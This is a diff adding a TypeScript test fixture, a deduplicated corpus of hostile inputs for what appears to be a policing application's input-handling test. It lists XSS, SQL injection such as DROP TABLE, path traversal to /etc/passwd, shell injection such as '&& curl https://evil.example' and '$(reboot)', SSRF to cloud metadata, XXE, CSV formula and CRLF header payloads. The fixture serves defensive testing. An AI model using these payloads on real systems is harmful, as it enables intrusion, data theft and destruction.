@@ -1,0 +1,233 @@
+// Hostile inputs for the hostile-input test. Each group says what it is trying to break; the
+// list is deduplicated, and `CORPUS.length` is asserted to be at least 200 by the test.
+
+const xss = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '"><script>alert(document.cookie)</script>',
+  "'><script>alert(1)</script>",
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '<body onload=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)' autofocus='",
+  '" autofocus onfocus=alert(1) x="',
+  '</textarea><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '<!--<script>alert(1)//-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<object data="javascript:alert(1)">',
+  '<embed src="javascript:alert(1)">',
+  '<form action="https://evil.example"><button>x</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>body{background:url(https://evil.example/t)}</style>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '{{7*7}}',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '<x onclick=alert(1)>click',
+  '<video><source onerror=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<marquee onstart=alert(1)>',
+];
+
+const sql = [
+  "' OR '1'='1",
+  "' OR 1=1 --",
+  '" OR ""="',
+  "'; DROP TABLE incidents; --",
+  "1; DELETE FROM officers WHERE '1'='1",
+  "' UNION SELECT password_hash FROM users --",
+  "1' AND SLEEP(5)--",
+  "'; SELECT pg_sleep(5); --",
+  '1) OR (1=1',
+  "admin'--",
+  "' OR 'x'='x' /*",
+  "%' OR '%'='",
+  "'); TRUNCATE audit_log; --",
+  '1 OR 1=1',
+  '-1 UNION SELECT NULL,NULL,NULL--',
+  "'||(SELECT version())||'",
+  '$$; DROP TABLE users; $$',
+  "E'\\x27'",
+  '\\',
+  "\\'",
+  "''",
+  "';",
+  'NULL',
+  'null',
+  'undefined',
+  'true',
+  '1e309',
+  "' AND 1=CAST((SELECT current_user) AS int)--",
+  "COPY users TO '/tmp/x'",
+];
+
+const traversal = [
+  '../../../../etc/passwd',
+  '..\\..\\..\\windows\\win.ini',
+  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+  '..%252f..%252fetc%252fpasswd',
+  '....//....//etc/passwd',
+  '/etc/shadow',
+  'file:///etc/passwd',
+  '/dev/null',
+  '\\\\evil.example\\share',
+  '..;/..;/etc/passwd',
+  '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
+  'C:\\Windows\\System32\\drivers\\etc\\hosts',
+];
+
+// Look-alike letters, direction overrides and invisible characters: names that display as
+// one thing and are stored as another.
+const unicode = [
+  'Sаrah Evеrard', // Cyrillic а and е
+  'Ρ0LΙCΕ', // Greek capitals and a zero
+  'ＰＣ　Ｓｍｉｔｈ', // full-width
+  'admin\u202E\u2066txt.exe',
+  '\u202Egnp.exe',
+  'abc\u202Edef\u202Cghi',
+  '\u2067RTL isolate\u2069',
+  '\u200B\u200C\u200D\uFEFF',
+  'zero\u200Bwidth',
+  '\u00A0\u2007\u202F',
+  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
+  'Z\u0335\u0321\u0327\u031b\u032f\u033c\u0330\u031d\u0317algo',
+  '\uD800',
+  'lone \uDC00 low surrogate',
+  '\uFFFD\uFFFE\uFFFF',
+  '😀👮‍♀️🏳️‍🌈',
+  '𝐏𝐂 𝐒𝐦𝐢𝐭𝐡',
+  'İstanbul ß ﬁ',
+  '\u0130\u0131',
+  'Ａ\u0000Ｂ',
+];
+
+// Control characters: null bytes end C strings; CR/LF split headers and log lines.
+const control = [
+  'null\u0000byte',
+  '\u0000',
+  '%00',
+  'file.txt\u0000.jpg',
+  'line1\r\nline2',
+  'x\r\nSet-Cookie: injected=1',
+  'x\r\nLocation: https://evil.example',
+  '%0d%0aSet-Cookie:%20injected=1',
+  '\r\n\r\n<html>injected</html>',
+  '\u0008\u0007\u001b[31mred\u001b[0m',
+  '\u2028line separator\u2029',
+  '\t\t\ttabs',
+  '\u007f',
+  '\u0085next line',
+  '\r',
+  '\n',
+];
+
+// Format strings, prototype pollution keys, numbers and dates out of range, shapes of ids.
+const shapes = [
+  '%s%s%s%s%s%n',
+  '%x%x%x%x',
+  '{0}{1}{2}',
+  '__proto__',
+  'constructor',
+  'prototype',
+  '__proto__[admin]=1',
+  'constructor[prototype][admin]=1',
+  'toString',
+  'hasOwnProperty',
+  '-1',
+  '0',
+  '-0',
+  '2147483648',
+  '-2147483649',
+  '9223372036854775808',
+  '99999999999999999999999999999',
+  '1e1000',
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '0x7fffffff',
+  '1.7976931348623157e+309',
+  '0000-00-00',
+  '2024-02-30',
+  '9999-12-31T23:59:60Z',
+  '-001000-01-01',
+  '1970-01-01T00:00:00.000Z',
+  '00000000-0000-0000-0000-000000000000',
+  'ffffffff-ffff-ffff-ffff-ffffffffffff',
+  '{"$where":"1==1"}',
+  '{"$gt":""}',
+  '[]',
+  '{}',
+  '[object Object]',
+  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  '=HYPERLINK("https://evil.example","click")',
+  "=cmd|' /C calc'!A0",
+  '+SUM(1,1)',
+  '-2+3',
+  '@SUM(1)',
+  '|| ls -la',
+  '; cat /etc/passwd',
+  '$(reboot)',
+  '`id`',
+  '&& curl https://evil.example',
+  '* (mail=*)',
+  'admin)(&)',
+  '//evil.example',
+  'https://evil.example/@127.0.0.1',
+  'http://169.254.169.254/latest/meta-data/',
+  'http://[::1]/',
+  'gopher://127.0.0.1:6379/_FLUSHALL',
+  'mailto:a@b?subject=x%0d%0abcc:c@d',
+  ' ',
+  '',
+  '   leading and trailing   ',
+];
+
+// Lengths that overflow limits, and repeated shapes that stress regular expressions.
+const sizes = [
+  'A'.repeat(256),
+  'A'.repeat(1025),
+  'A'.repeat(10_001),
+  'A'.repeat(100_000),
+  '<'.repeat(5000),
+  '&'.repeat(5000),
+  'a@'.repeat(2000),
+  `${'a'.repeat(50_000)}!`,
+  '-'.repeat(3000),
+  ' '.repeat(5000),
+  `${'\u202E'.repeat(500)}x`,
+  '😀'.repeat(3000),
+];
+
+// The same markup percent-encoded, for code that decodes once too often.
+const encoded = xss.slice(0, 20).map((p) => encodeURIComponent(p));
+
+const ALL = [...xss, ...sql, ...traversal, ...unicode, ...control, ...shapes, ...sizes, ...encoded];
+
+/** Every hostile input, each once. */
+export const CORPUS: readonly string[] = [...new Set(ALL)];
+
+/**
+ * Inputs that would be dangerous if a page printed them as they are: anything with markup or
+ * quote characters. A response that contains one of these verbatim printed it unescaped.
+ */
+export const MARKUP: readonly string[] = CORPUS.filter((p) => /[<>"']/.test(p) && p.length >= 4);
